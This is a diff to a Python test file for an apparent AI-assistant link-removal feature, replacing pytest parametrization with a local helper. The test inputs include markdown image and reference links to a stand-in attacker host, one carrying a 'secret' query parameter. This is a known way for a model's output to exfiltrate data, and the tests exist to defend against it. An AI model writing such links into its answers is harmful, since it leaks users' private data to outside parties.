@@ -4,7 +4,6 @@ from __future__ import annotations
 
 import time
 
-import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
@@ -13,6 +12,7 @@ from assistant.citing.link_removal import without_links
 from assistant.text.markers import Lexer
 from assistant.types import Paper, Source
 from tests.support.answers import active
+from tests.support.each_row import each_row
 
 SOURCES = [
     Source(1, Paper(id="p", title="Bytes", abstract="It reads bytes.", url="https://papers.example/p"))
@@ -24,7 +24,7 @@ def shown(written: str) -> str:
     return without_links(Lexer().feed(written, final=True))
 
 
-@pytest.mark.parametrize(
+@each_row(
     ("written", "kept"),
     [
         (f"See ![a chart]({EVIL}.png?q=secret).", "See ![a chart]."),
@@ -52,7 +52,7 @@ def test_links_are_taken_away_and_words_are_left(written: str, kept: str) -> Non
     assert active(shown(written)) == []
 
 
-@pytest.mark.parametrize(
+@each_row(
     "written",
     [
         f"[label]: {EVIL}\n\n[label] and ![label]",
@@ -104,7 +104,7 @@ def test_an_answer_with_citations_holds_no_way_out() -> None:
     assert active(text) == []
 
 
-@pytest.mark.parametrize("piece", ["](", "[x](http:", "<", "[x](http://a)", "(", "[x](a b ", "<br"])
+@each_row("piece", ["](", "[x](http:", "<", "[x](http://a)", "(", "[x](a b ", "<br"])
 def test_what_a_hostile_model_repeats_takes_no_longer_than_it_is_long(piece: str) -> None:
     whole = piece * (20_000 // len(piece))
     begun = time.process_time()
